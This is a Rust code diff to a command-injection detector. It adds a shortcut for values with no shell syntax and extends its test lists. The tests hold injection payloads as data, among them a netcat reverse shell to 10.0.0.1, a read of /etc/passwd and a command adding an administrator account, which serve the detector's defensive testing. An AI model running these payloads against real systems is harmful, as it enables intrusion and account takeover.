@@ -255,6 +255,17 @@ pub fn detect_cmdi(value: &[u8]) -> Option<String> {
     if value.len() < 2 {
         return None;
     }
+    // Without shell syntax (operators, quotes, escapes, expansions, paths, comparisons) the
+    // tokens are all words, and only the first can be in command position: unless it names a
+    // program (or `for`/`if`), there is nothing to tokenize.
+    let syntax = |b: u8| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$' | b'(' | b')' | b'{' | b'}' | b'<' | b'>' | b'/' | b'\\' | b'\'' | b'"' | b'^' | b'%' | b'=' | b'[' | b']');
+    if !value.iter().any(|&b| syntax(b)) {
+        let first = value.split(|&b| matches!(b, b' ' | b'\t' | b',')).find(|w| !w.is_empty()).unwrap_or_default();
+        let first = String::from_utf8_lossy(first).to_ascii_lowercase();
+        if first != "for" && first != "if" && program(&first).is_none() {
+            return None;
+        }
+    }
     // A URL path: each segment that holds a shell operator is also a value of its own (the
     // segments after it are not the command's arguments).
     if value.first() == Some(&b'/') {
@@ -343,7 +354,7 @@ mod tests {
 
     #[test]
     fn separators_before_programs() {
-        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la", ";id\\n", "| net view", "&& net localgroup Administrators hacker /ADD", "sleep 10", "which nc", "type C:\\boot.ini", "whoami", "ls -la"] {
+        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la", ";id\\n", "| net view", "&& net localgroup Administrators hacker /ADD", "sleep 10", "which nc", "type C:\\boot.ini", "whoami", "ls -la", "WHOAMI.EXE", "sleep 5", "uname -a"] {
             assert!(hit(s), "{s}");
         }
     }
@@ -381,7 +392,7 @@ mod tests {
 
     #[test]
     fn english_and_code_are_not_commands() {
-        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs", "top -10 songs", "net 30 days", "type of hat", "sleep well", "which one?", "net worth", "date 2024-05-01", "for me in the morning", "if not exist, create it", "if you like it, for sure", "hello world (test)", "see the notes (more) below", "a {date} placeholder", "for all in (the list) do it", "If the item exists.", "if defined, use it"] {
+        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs", "top -10 songs", "net 30 days", "type of hat", "sleep well", "which one?", "net worth", "date 2024-05-01", "for me in the morning", "if not exist, create it", "if you like it, for sure", "hello world (test)", "see the notes (more) below", "a {date} placeholder", "for all in (the list) do it", "If the item exists.", "if defined, use it", "hello", "sort by price", "Sleep Number bed", "123456", "abc-def_ghi"] {
             assert!(!hit(s), "{s}");
         }
     }
